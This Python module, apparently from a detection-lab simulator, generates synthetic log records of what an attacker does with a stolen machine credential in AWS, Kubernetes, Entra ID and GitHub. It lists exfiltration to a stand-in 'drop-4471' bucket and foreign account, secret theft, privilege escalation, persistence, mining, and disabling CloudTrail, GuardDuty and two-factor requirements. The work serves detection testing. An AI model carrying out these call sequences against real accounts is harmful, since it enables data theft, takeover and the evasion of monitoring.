"""What a thief does with a stolen credential of a machine, product by product, as public descriptions tell it.

Each attack is the shortest sequence of calls that reaches its aim: no look around, no probe of whose key it is, nothing
refused. Sources: the techniques of Stratus Red Team, Pacu, ROADtools and TruffleHog's and MITRE's descriptions; call
names and parameters as the providers' references of their logs have them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping
from typing import Any, NamedTuple

from nhi_watch_lab.simulator import shapes
from nhi_watch_lab.simulator.basics import Dice, World
from nhi_watch_lab.simulator.products import entra, github, kubernetes
from nhi_watch_lab.simulator.products.company import Company
from nhi_watch_lab.simulator.products.workers import Deed, Record
from nhi_watch_lab.simulator.records import Detail
from nhi_watch_lab.simulator.shapes import model_call, policy, s3_listing, s3_object, secret

Call = tuple[str, Detail]
"""`service:Name` and what the call says."""


class Aim(NamedTuple):
    """Where an AWS attack is played."""

    world: World
    dice: Dice
    region: str
    foreign: str
    """The thief's own account."""

    def bucket(self) -> str:
        """One of the tenant's."""
        return str(self.dice.pick(self.world.buckets))

    def call(self, action: str, /, **params: Any) -> Call:
        """A call with parameters and no answer that tells."""
        return action, Detail(params or None)

    def role(self) -> str:
        """The ARN of a role of the tenant."""
        return self.world.arn("iam", f"role/{self.world.role_name('payments', self.world.envs[0], 'admin')}")


Attack = Callable[[Aim], Iterable[Call]]


def _objects(a: Aim, count: int, action: str = "s3:GetObject") -> Iterable[Call]:
    name = a.bucket()
    yield "s3:ListObjects", s3_listing(a.world, a.dice, a.region, name)
    for n in range(count):
        yield action, s3_object(a.world, a.dice, a.region, name, f"customers/{n:04}/{a.dice.hexes(8)}.parquet")


def _batch(a: Aim) -> Iterable[Call]:
    made = {"operation": {"S3PutObjectCopy": {"targetResource": "arn:aws:s3:::drop-4471"}}, "priority": 10,
            "confirmationRequired": False, "roleArn": a.role(), "accountId": a.world.account}  # fmt: skip
    yield "s3:CreateJob", Detail(made, {"jobId": a.dice.uuid()})


def _replication(a: Aim) -> Iterable[Call]:
    rule = {"Status": "Enabled", "Priority": 1, "Destination": {"Bucket": "arn:aws:s3:::drop-4471",
                                                                "Account": a.foreign}}  # fmt: skip
    yield a.call("s3:PutBucketReplication", bucketName=a.bucket(), replication="",
                 ReplicationConfiguration={"Role": a.role(), "Rule": rule})  # fmt: skip


def _datasync(a: Aim) -> Iterable[Call]:
    for name in (a.bucket(), "drop-4471"):
        yield a.call("datasync:CreateLocationS3", s3BucketArn=f"arn:aws:s3:::{name}",
                     s3Config={"bucketAccessRoleArn": a.role()})  # fmt: skip
    yield a.call("datasync:CreateTask", sourceLocationArn=a.world.arn("datasync", "location/loc-1", a.region),
                 destinationLocationArn=a.world.arn("datasync", "location/loc-2", a.region))  # fmt: skip
    yield a.call("datasync:StartTaskExecution", taskArn=a.world.arn("datasync", "task/task-1", a.region))


def _blocks(a: Aim) -> Iterable[Call]:
    snapshot = f"snap-0{a.dice.hexes(16)}"
    yield a.call("ebs:ListSnapshotBlocks", snapshotId=snapshot)
    for n in range(80):
        yield a.call("ebs:GetSnapshotBlock", snapshotId=snapshot, blockIndex=n, blockToken="HIDDEN")


def _athena(a: Aim) -> Iterable[Call]:
    for table in ("customers", "payments", "cards"):
        yield a.call("athena:StartQueryExecution", queryString=f"TABLE lake.{table}", workGroup="primary",
                     resultConfiguration={"outputLocation": f"s3://{a.bucket()}/results/"})  # fmt: skip
        yield a.call("athena:GetQueryResults", queryExecutionId=a.dice.uuid(), maxResults=1000)


def _secrets(a: Aim) -> Iterable[Call]:
    yield a.call("secretsmanager:ListSecrets", maxResults=100)
    for name in a.dice.some(a.world.secrets, 10):
        yield "secretsmanager:GetSecretValue", secret(a.world, name, a.region)


def _parameters(a: Aim) -> Iterable[Call]:
    yield a.call("ssm:DescribeParameters", maxResults=50)
    for env in a.world.envs:
        yield a.call("ssm:GetParametersByPath", path=f"/{env}", recursive=True, withDecryption=True)


def _decrypt(a: Aim) -> Iterable[Call]:
    for key in a.dice.some(a.world.keys, 12):
        resources = [{"accountId": a.world.account, "type": "AWS::KMS::Key", "ARN": key}]
        yield "kms:Decrypt", Detail({"keyId": key, "encryptionAlgorithm": "SYMMETRIC_DEFAULT"}, resources=resources)


def _variables(a: Aim) -> Iterable[Call]:
    yield a.call("lambda:ListFunctions20150331", maxItems=50)
    for name in a.dice.some(a.world.functions, 12):
        yield a.call("lambda:GetFunction20150331v2", functionName=name)


def _images(a: Aim) -> Iterable[Call]:
    yield a.call("ecr:GetAuthorizationToken")
    for name in ("payments", "ledger", "auth", "fraud"):
        yield a.call("ecr:BatchGetImage", repositoryName=name, imageIds=[{"imageTag": "latest"}])
        yield a.call("ecr:GetDownloadUrlForLayer", repositoryName=name, layerDigest=f"sha256:{a.dice.hexes(64)}")


def _models(a: Aim) -> Iterable[Call]:
    for _ in range(60):
        yield "bedrock:InvokeModel", model_call(a.world, a.dice, a.region, "anthropic.claude-opus-4-20250514-v1:0")


def _agents(a: Aim) -> Iterable[Call]:
    yield a.call("bedrock:CreateAgent", agentName="helper", agentResourceRoleArn=a.role(),
                 foundationModel="anthropic.claude-3-haiku-20240307-v1:0")  # fmt: skip
    yield a.call("bedrock:CreateAgentActionGroup", agentId="AG1", agentVersion="DRAFT", actionGroupName="run")
    yield a.call("bedrock:PrepareAgent", agentId="AG1")
    yield a.call("bedrock:InvokeAgent", agentId="AG1", agentAliasId="TSTALIASID", sessionId=a.dice.uuid())


def _model_access(a: Aim) -> Iterable[Call]:
    yield a.call("bedrock:PutUseCaseForModelAccess", formData="HIDDEN")
    yield a.call("bedrock:CreateFoundationModelAgreement", modelId="anthropic.claude-opus-4-20250514-v1:0")
    yield a.call("bedrock:PutFoundationModelEntitlement", modelId="anthropic.claude-opus-4-20250514-v1:0")


def _user(a: Aim) -> Iterable[Call]:
    name = f"svc-sync-{a.dice.hexes(3)}"
    yield "iam:CreateUser", shapes.create_user(a.world, name, a.dice.ident("AIDA"))
    yield "iam:CreateAccessKey", shapes.create_key(name, a.dice.ident("AKIA", 16))


def _anchor(a: Aim) -> Iterable[Call]:
    bundle = {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": "HIDDEN"}}
    yield a.call("rolesanywhere:CreateTrustAnchor", name="ca", enabled=True, source=bundle)
    yield a.call("rolesanywhere:CreateProfile", name="p", enabled=True, roleArns=[a.role()])


def _lambda_url(a: Aim) -> Iterable[Call]:
    name = a.dice.pick(a.world.functions)
    yield a.call("lambda:CreateFunctionUrlConfig", functionName=name, authType="NONE")
    yield a.call("lambda:AddPermission20150331v2", functionName=name, statementId="url", principal="*",
                 action="lambda:InvokeFunctionUrl", functionUrlAuthType="NONE")  # fmt: skip


def _pass_role(a: Aim) -> Iterable[Call]:
    name = f"sync-{a.dice.hexes(4)}"
    yield "lambda:CreateFunction20150331", Detail(
        {"functionName": name, "runtime": "python3.12", "role": a.role(), "handler": "i.h", "code": {}},
        {"functionName": name, "role": a.role()})  # fmt: skip
    yield a.call("lambda:Invoke", functionName=a.world.arn("lambda", f"function:{name}", a.region))


def _build(a: Aim) -> Iterable[Call]:
    yield a.call("codebuild:StartBuild", projectName="deploy-prod", buildspecOverride="HIDDEN",
                 environmentVariablesOverride=[], privilegedModeOverride=True)  # fmt: skip


def _user_data(a: Aim) -> Iterable[Call]:
    host = a.dice.pick(a.world.instances)
    one = {"instancesSet": {"items": [{"instanceId": host}]}}
    yield "ec2:StopInstances", Detail({**one, "force": False})
    yield "ec2:ModifyInstanceAttribute", Detail({"instanceId": host, "userData": "<sensitiveDataRemoved>"},
                                                {"_return": True})  # fmt: skip
    yield "ec2:StartInstances", Detail(one)


def _snapshot(a: Aim) -> Iterable[Call]:
    name = f"snap-0{a.dice.hexes(16)}"
    yield "ec2:CreateSnapshot", Detail({"volumeId": f"vol-0{a.dice.hexes(16)}"}, {"snapshotId": name})
    yield "ec2:ModifySnapshotAttribute", shapes.share_snapshot(name, a.foreign)


def _restored(a: Aim) -> Iterable[Call]:
    base = a.dice.pick(a.world.databases)
    yield a.call("rds:CreateDBSnapshot", dBSnapshotIdentifier=f"{base}-x", dBInstanceIdentifier=base)
    yield a.call("rds:RestoreDBInstanceFromDBSnapshot", dBInstanceIdentifier=f"{base}-test", publiclyAccessible=True,
                 dBSnapshotIdentifier=f"{base}-x")  # fmt: skip
    yield a.call("rds:ModifyDBInstance", dBInstanceIdentifier=f"{base}-test", masterUserPassword="****",
                 applyImmediately=True)  # fmt: skip


def _mail(a: Aim) -> Iterable[Call]:
    yield a.call("ses:GetSendQuota")
    yield a.call("ses:VerifyEmailIdentity", emailAddress="billing@pay-secure.example")
    for _ in range(40):
        yield a.call("ses:SendEmail", source="billing@pay-secure.example", destination="HIDDEN")


def _statement(a: Aim) -> Iterable[Call]:
    yield a.call("redshift-data:ExecuteStatement", clusterIdentifier="dwh", database="prod", dbUser="awsuser",
                 sql="UNLOAD ('select * from customers') TO 's3://drop-4471/' IAM_ROLE default")  # fmt: skip
    yield a.call("redshift-data:DescribeStatement", id=a.dice.uuid())


def _federated(a: Aim) -> Iterable[Call]:
    yield a.call("iam:UpdateAssumeRolePolicy", roleName=a.role().rpartition("/")[2],
                 policyDocument=shapes.trust(a.foreign))  # fmt: skip


def _small(a: Aim) -> Iterable[Call]:
    for _ in range(16):
        yield "ec2:RunInstances", shapes.run_instances(a.dice, "c6i.large", 1)


AWS: Mapping[str, Attack] = {
    # bulk reads
    "s3 bulk read": lambda a: _objects(a, 250),
    "s3 batch job to a foreign bucket": _batch,
    "s3 replication": _replication,
    "datasync": _datasync,
    "ebs direct reads": _blocks,
    "dynamodb export": lambda a: [a.call("dynamodb:ExportTableToPointInTime", exportFormat="DYNAMODB_JSON",
                                         tableArn=a.world.arn("dynamodb", "table/customers", a.region),
                                         s3Bucket="drop-4471", s3BucketOwner=a.foreign)],
    "athena": _athena,
    "redshift unload": _statement,
    "codecommit": lambda a: [a.call("codecommit:ListRepositories"), *(
        a.call("codecommit:GitPull", repositoryName=name) for name in ("payments", "ledger", "infra", "auth"))],
    "log queries": lambda a: [step for n in range(3) for step in (
        a.call("logs:StartQuery", logGroupName=f"/aws/lambda/{a.world.functions[n]}", queryString="fields @message"),
        a.call("logs:GetQueryResults", queryId=a.dice.uuid()))],
    "rds export": lambda a: [a.call("rds:StartExportTask", exportTaskIdentifier="x", s3BucketName="drop-4471",
                                    sourceArn=a.world.arn("rds", "snapshot:prod", a.region), iamRoleArn=a.role())],
    # secrets
    "secrets": _secrets,
    "secrets in one call": lambda a: [a.call("secretsmanager:BatchGetSecretValue", filters=[], maxResults=20)],
    "ssm parameters": _parameters,
    "kms decrypt": _decrypt,
    "lambda variables": _variables,
    "user data read": lambda a: [a.call("ec2:DescribeInstanceAttribute", instanceId=host, attribute="userData")
                                 for host in a.dice.some(a.world.instances, 12)],
    "container images": _images,
    # models
    "bedrock models": _models,
    "bedrock agents": _agents,
    "bedrock access": _model_access,
    # persistence
    "new user with a key": _user,
    "key for another user": lambda a: [
        ("iam:CreateAccessKey", shapes.create_key("terraform", a.dice.ident("AKIA", 16)))],
    "console password": lambda a: [("iam:CreateLoginProfile", shapes.login_profile("terraform", False))],
    "roles anywhere": _anchor,
    "oidc provider": lambda a: [a.call("iam:CreateOpenIDConnectProvider", url="https://token.drop.example",
                                       clientIDList=["sts.amazonaws.com"], thumbprintList=[a.dice.hexes(40)])],
    "saml provider": lambda a: [a.call("iam:CreateSAMLProvider", name="sso2", sAMLMetadataDocument="HIDDEN")],
    "sso assignment": lambda a: [a.call("sso:CreateAccountAssignment", principalType="USER", principalId=a.dice.uuid(),
                                        targetId=a.world.account, targetType="AWS_ACCOUNT",
                                        permissionSetArn="arn:aws:sso:::permissionSet/ssoins-1/ps-1")],
    "ssm activation": lambda a: [a.call("ssm:CreateActivation", iamRole=a.role(), registrationLimit=5)],
    "lambda url": _lambda_url,
    "role trusts a foreign account": _federated,
    # escalation
    "admin policy on a user": lambda a: [a.call("iam:AttachUserPolicy", userName="svc-sync", policyArn=shapes.ADMIN)],
    "inline policy of everything": lambda a: [a.call("iam:PutRolePolicy", roleName=a.role().rpartition("/")[2],
                                                     policyName="p", policyDocument=policy("*", "*"))],
    "policy version": lambda a: [a.call("iam:CreatePolicyVersion", policyArn=a.world.arn("iam", "policy/app"),
                                        policyDocument=policy("*", "*"), setAsDefault=True)],
    "pass role to a function": _pass_role,
    # code
    "lambda code": lambda a: [("lambda:UpdateFunctionCode20150331v2", shapes.function_code(
        a.world, a.dice.pick(a.world.functions), a.region, f"{a.dice.hexes(40)}="))],
    "lambda layer": lambda a: [("lambda:UpdateFunctionConfiguration20150331v2", shapes.function_layers(
        a.dice.pick(a.world.functions), f"arn:aws:lambda:{a.region}:{a.foreign}:layer:x:1"))],
    "codebuild": _build,
    # hosts
    "ssm command": lambda a: [("ssm:SendCommand", shapes.send_command(a.dice, a.dice.some(a.world.instances, 8)))],
    "ssm session": lambda a: [a.call("ssm:StartSession", target=host) for host in a.dice.some(a.world.instances, 2)],
    "user data": _user_data,
    "ec2 instance connect": lambda a: [a.call("ec2-instance-connect:SendSSHPublicKey", instanceOSUser="root",
                                              instanceId=a.dice.pick(a.world.instances), sSHPublicKey="HIDDEN")],
    "snapshot shared": _snapshot,
    "image shared": lambda a: [("ec2:ModifyImageAttribute", shapes.share_image(f"ami-0{a.dice.hexes(16)}", a.foreign))],
    "rds snapshot restored in public": _restored,
    # mining and mail
    "gpu mining": lambda a: [("ec2:RunInstances", shapes.run_instances(a.dice, "p4d.24xlarge", 4))],
    "small mining": _small,
    "mail": _mail,
    # logs
    "trail stopped": lambda a: [a.call("cloudtrail:StopLogging", name=a.world.trail)],
    "trail deleted": lambda a: [a.call("cloudtrail:DeleteTrail", name=a.world.trail)],
    "trail narrowed": lambda a: [("cloudtrail:PutEventSelectors", shapes.event_selectors(
        a.world.trail, "ReadOnly", False))],
    "flow logs deleted": lambda a: [("ec2:DeleteFlowLogs", Detail({"DeleteFlowLogsRequest": {"FlowLogId": {
        "content": f"fl-0{a.dice.hexes(16)}", "tag": 1}}}))],
    "guardduty off": lambda a: [a.call("guardduty:DeleteDetector", detectorId=a.dice.hexes(32))],
}


# ---- other products: an attack is a list of deeds

Deeds = Callable[[Company, Dice], "list[Deed]"]


def _k8s(*calls: tuple[str, str, str], times: int = 1, body: Record | None = None) -> Deeds:
    """Calls of (what, namespace, name); `body`: the request's, where the audit level is Request."""
    more = {"level": "Request", "requestObject": body} if body else None
    return lambda company, dice: [kubernetes.call(company, *call, more=more) for call in calls * times]


def _everywhere(what: str, times: int = 1) -> Deeds:
    """A call without a namespace: of all at once."""

    def made(company: Company, dice: Dice) -> list[Deed]:
        resource = what.partition(" ")[2]
        thing = {"resource": resource, "apiVersion": "v1"}
        more = {"objectRef": thing, "requestURI": f"/api/v1/{resource}?limit=500"}
        return [kubernetes.call(company, what, "x", "", more=more)] * times

    return made


def _others(what: str, names: str, space: str = "") -> Deeds:
    """The same in several places, given as blank-separated NAMESPACE/NAME."""
    return _k8s(*((what, *_split(name)) for name in names.split()))


def _split(name: str) -> tuple[str, str]:
    space, _, thing = name.partition("/")
    return space, thing


_POD = {"kind": "Pod", "spec": {"hostPID": True, "containers": [{
    "name": "c", "image": "alpine", "securityContext": {"privileged": True}}]}}  # fmt: skip
_HOSTPATH = {"kind": "Pod", "spec": {"volumes": [{"name": "r", "hostPath": {"path": "/"}}],
                                     "containers": [{"name": "c", "image": "alpine"}]}}  # fmt: skip
_ELSEWHERE = "payments-prod/db payments-prod/stripe ledger/db auth/jwt fraud/api vault/unseal billing/key hr/db"

KUBERNETES: Mapping[str, Deeds] = {
    "secrets of all namespaces": _everywhere("list secrets"),
    "secrets of other namespaces": _others("get secrets", _ELSEWHERE),
    "secrets listed in other namespaces": _others("list secrets", "payments-prod/ ledger/ auth/ vault/"),
    "secrets of kube-system": _k8s(("get secrets", "kube-system", "bootstrap-token-07401b")),
    "config maps of all namespaces": _everywhere("list configmaps"),
    "token of another account": _k8s(("create serviceaccounts/token", "kube-system", "clusterrole-aggregation")),
    "cluster-admin bound": _k8s(("create clusterrolebindings", "", "ops-view")),
    "cluster role of everything": _k8s(("create clusterroles", "", "ops-view")),
    "role bound": _k8s(("create rolebindings", "payments-prod", "view-all")),
    "privileged pod": _k8s(("create pods", "", "debug"), body=_POD),
    "pod with the host's disk": _k8s(("create pods", "", "debug"), body=_HOSTPATH),
    "pods created": _k8s(("create pods", "", "worker-1"), ("create pods", "", "worker-2")),
    "shell in kube-system": _k8s(("create pods/exec", "kube-system", "kube-proxy-x7k2p")),
    "shell in another pod": _k8s(("create pods/exec", "payments-prod", "payments-api-7d9f")),
    "ports forwarded": _k8s(("create pods/portforward", "ledger", "ledger-db-0")),
    "container put into a pod": _k8s(("patch pods/ephemeralcontainers", "payments-prod", "payments-api-7d9f")),
    "node proxied": _k8s(("get nodes/proxy", "", "ip-10-1-2-3.ec2.internal"), times=4),
    "daemon set": _k8s(("create daemonsets", "kube-system", "node-helper")),
    "cron job": _k8s(("create cronjobs", "", "sync")),
    "admission webhook": _k8s(("create mutatingwebhookconfigurations", "", "defaults")),
    "image replaced elsewhere": _k8s(("patch deployments", "payments-prod", "payments-api")),
    "client certificate": _k8s(("create certificatesigningrequests", "", "ops"),
                               ("update certificatesigningrequests/approval", "", "ops")),
    "dns rewritten": _k8s(("update configmaps", "kube-system", "coredns")),
    "users mapped to admin": _k8s(("patch configmaps", "kube-system", "aws-auth")),
    "logs of other pods": _others("get pods/log", _ELSEWHERE),
    "mining deployment": _k8s(("create deployments", "", "metrics-cache"),
                              ("patch deployments/scale", "", "metrics-cache")),
    "events deleted": _k8s(("deletecollection events", "kube-system", "")),
    "namespace deleted": _k8s(("delete namespaces", "", "payments-prod")),
}  # fmt: skip


def _graph(*calls: tuple[str, str, int], times: int = 1) -> Deeds:
    return lambda company, dice: [entra.graph(company, *call) for call in calls * times]


def _directory(call: tuple[str, str, int], activity: str, target: Mapping[str, Any], *changed: Record) -> Deeds:
    """A change by Graph, which the directory's audit log tells, too."""

    def made(company: Company, dice: Dice) -> list[Deed]:
        told = {"id": dice.uuid(), **target, "modifiedProperties": list(changed)}
        return [entra.graph(company, *call), entra.audit(company, activity, told)]

    return made


def _other_app(kind: str = "Application") -> dict[str, Any]:
    return {"displayName": "finance-portal", "type": kind}


_KEYS = entra.changed("KeyDescription", '["[KeyIdentifier=5f3c1b1e-4c0b-4a57-9c0f-7d3d3a6b1c11,KeyType=Password,'
                      'KeyUsage=Verify,DisplayName=]"]', "[]")  # fmt: skip
_ADMIN_ROLE = entra.changed("Role.DisplayName", '"Global Administrator"')

ENTRA: Mapping[str, Deeds] = {
    "directory read": _graph(*(("GET", f"/v1.0/{name}?$top=999", 200) for name in (
        "users", "groups", "applications", "servicePrincipals", "directoryRoles")), times=4),
    "mail read": _graph(("GET", "/v1.0/users/{id}/messages?$top=100", 200), times=60),
    "files taken": _graph(("GET", "/v1.0/drives/{id}/items/{id}/content", 200), times=80),
    "chats read": _graph(("GET", "/v1.0/users/{id}/chats/getAllMessages", 200), times=20),
    "disk keys read": _graph(("GET", "/v1.0/informationProtection/bitlocker/recoveryKeys/{id}", 200), times=10),
    "secret on another app": _directory(("POST", "/v1.0/applications/{id}/addPassword", 200),
        "Update application – Certificates and secrets management ", _other_app(), _KEYS),
    "federated credential": _directory(("POST", "/v1.0/applications/{id}/federatedIdentityCredentials", 201),
        "Update application", _other_app(), entra.changed("FederatedIdentityCredentials", '[{"Issuer":"https://x"}]')),
    "owner of another app": _directory(("POST", "/v1.0/applications/{id}/owners/$ref", 204),
        "Add owner to application", _other_app()),
    "application permission": _directory(("POST", "/v1.0/servicePrincipals/{id}/appRoleAssignments", 201),
        "Add app role assignment to service principal", {"displayName": "Microsoft Graph", "type": "ServicePrincipal"},
        entra.changed("AppRole.Value", '"RoleManagement.ReadWrite.Directory"')),
    "consent for everybody": _directory(("POST", "/v1.0/oauth2PermissionGrants", 201),
        "Add delegated permission grant", {"displayName": "Microsoft Graph", "type": "ServicePrincipal"},
        entra.changed("DelegatedPermissionGrant.Scope", '"Mail.ReadWrite Files.ReadWrite.All"'),
        entra.changed("DelegatedPermissionGrant.ConsentType", '"AllPrincipals"')),
    "global administrator": _directory(("POST", "/v1.0/roleManagement/directory/roleAssignments", 201),
        "Add member to role", {"displayName": None, "type": "User"}, _ADMIN_ROLE),
    "new user": _directory(("POST", "/v1.0/users", 201), "Add user", {"displayName": None, "type": "User"}),
    "guest invited": _directory(("POST", "/v1.0/invitations", 201), "Invite external user", {"type": "User"}),
    "password reset": _directory(("PATCH", "/v1.0/users/{id}", 204), "Reset user password", {"type": "User"}),
    "temporary access pass": _directory(("POST", "/v1.0/users/{id}/authentication/temporaryAccessPassMethods", 201),
        "Admin registered security info", {"type": "User"}),
    "conditional access off": _directory(("PATCH", "/v1.0/identity/conditionalAccess/policies/{id}", 204),
        "Update conditional access policy", {"displayName": "Require MFA", "type": "Policy"}),
    "domain federated": _directory(("POST", "/v1.0/domains/{id}/federationConfiguration", 201),
        "Set federation settings on domain", {"displayName": "corp.example", "type": "Other"}),
    "new app": _directory(("POST", "/v1.0/applications", 201), "Add application", _other_app()),
    "mail rule": _graph(("POST", "/v1.0/users/{id}/mailFolders/inbox/messageRules", 201)),
    "mail sent": _graph(("POST", "/v1.0/users/{id}/sendMail", 202), times=40),
    "devices wiped": _graph(("POST", "/v1.0/deviceManagement/managedDevices/{id}/wipe", 204), times=6),
    "user deleted": _directory(("DELETE", "/v1.0/users/{id}", 204), "Delete user", {"type": "User"}),
}  # fmt: skip


def _git(action: str, count: int) -> Deeds:
    return lambda company, dice: [github.git(company, [repo], action) for repo in dice.some(company.repos, count)]


def _api(method: str, route: str, times: int = 1, status: int = 200) -> Deeds:
    return lambda company, dice: [github.api(company, method, route, company.repos, status)] * times


def _change(action: str, times: int = 1, in_repo: bool = True, **more: Any) -> Deeds:
    return lambda company, dice: [github.change(company, action, more, [repo] if in_repo else None)
                                  for repo in dice.some(company.repos, times)]  # fmt: skip


def _together(*parts: Deeds) -> Deeds:
    return lambda company, dice: [deed for part in parts for deed in part(company, dice)]


GITHUB: Mapping[str, Deeds] = {
    "repositories cloned": _git("git.clone", 16),
    "repositories as zip": _change("repo.download_zip", 8),
    "archives by the API": _api("GET", "/repos/{owner}/{repo}/tarball/{ref}", 8),
    "contents read": _api("GET", "/repos/{owner}/{repo}/contents/{path}", 120),
    "code searched for secrets": _api("GET", "/search/code", 30),
    "secret alerts read": _api("GET", "/orgs/{org}/secret-scanning/alerts", 2),
    "migration": _change("migration.create", in_repo=False),
    "audit log exported": _change("org.audit_log_export", in_repo=False),
    "artifacts taken": _api("GET", "/repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}", 20),
    "workflow pushed": _together(_git("git.push", 1), _change("workflows.created_workflow_run", event="push",
                                                              name=".github/workflows/x.yml", workflow_run_id=77)),
    "workflow dispatched": _api("POST", "/repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches", 3, 204),
    "secret replaced": _change("repo.update_actions_secret", key="DEPLOY_KEY"),
    "deploy key": _change("public_key.create", title="ci", read_only=False, fingerprint="SHA256:4b1d"),
    "runner": _change("repo.register_self_hosted_runner", runner_name="r1"),
    "webhook": _change("hook.create", hook_id=7, events=["push"]),
    "repository made public": _change("repo.access", visibility="public", previous_visibility="private"),
    "repository given away": _change("repo.transfer_start"),
    "fork outside": _api("POST", "/repos/{owner}/{repo}/forks", 2, 202),
    "outside collaborator": _change("repo.add_member", user="dev-x99", permission="admin"),
    "member invited": _change("org.invite_member", in_repo=False, user="dev-x99"),
    "app installed": _change("integration_installation.create", in_repo=False, name="sync-helper"),
    "branch unprotected": _change("protected_branch.destroy"),
    "ruleset removed": _change("repository_ruleset.destroy"),
    "runs of forks allowed": _change("repo.set_fork_pr_workflows_policy"),
    "secret scanning off": _change("repository_secret_scanning.disable"),
    "push protection bypassed": _change("secret_scanning_push_protection.bypass"),
    "two factors not required": _change("org.disable_two_factor_requirement", in_repo=False),
    "log stream removed": _change("audit_log_streaming.destroy", in_repo=False),
    "release replaced": _api("POST", "/repos/{owner}/{repo}/releases/{release_id}/assets", 1, 201),
    "repository deleted": _change("repo.destroy"),
}
